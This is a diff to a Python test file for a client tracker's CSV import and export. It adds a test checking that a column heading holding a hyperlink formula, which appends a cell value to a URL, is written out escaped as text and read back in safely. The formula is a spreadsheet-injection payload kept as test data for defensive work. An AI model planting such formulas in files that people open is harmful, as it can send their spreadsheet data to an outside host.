@@ -20,7 +20,7 @@ from tracker.records import PURPOSES, Client
 from tracker.report import sheet_tables, to_csv
 from tracker.store import Store
 from tracker.workflow import csv_file
-from tracker.workflow.bring_in import KNOWN, bring_in, plan_import
+from tracker.workflow.bring_in import KNOWN, bring_in, plan_import, refused_csv
 from tracker.workflow.csv_file import read_list
 
 TODAY = date(2026, 6, 1)
@@ -123,6 +123,15 @@ def test_a_formula_comes_in_as_text_and_goes_round(store: Store, sign: str) -> N
     again = plan_import(store, out)
     assert again.clients == ()
     assert again.refused[0].why == f"A client named {typed} is there already."
+
+
+# safety.md row 16
+def test_a_formula_for_a_heading_goes_out_as_text_and_comes_in_again(store: Store) -> None:
+    column = '=hyperlink("http://x"&a2)'
+    plan = plan_import(store, f'name,"{column.replace(chr(34), chr(34) * 2)}"\n,lost\n'.encode())
+    out = refused_csv(plan)
+    assert b"\"'=hyperlink" in out
+    assert column in plan_import(store, out.replace(b"lost", b"x")).left_out
 
 
 def test_our_own_list_of_clients_comes_in_again(store: Store, tmp_path: Path) -> None:
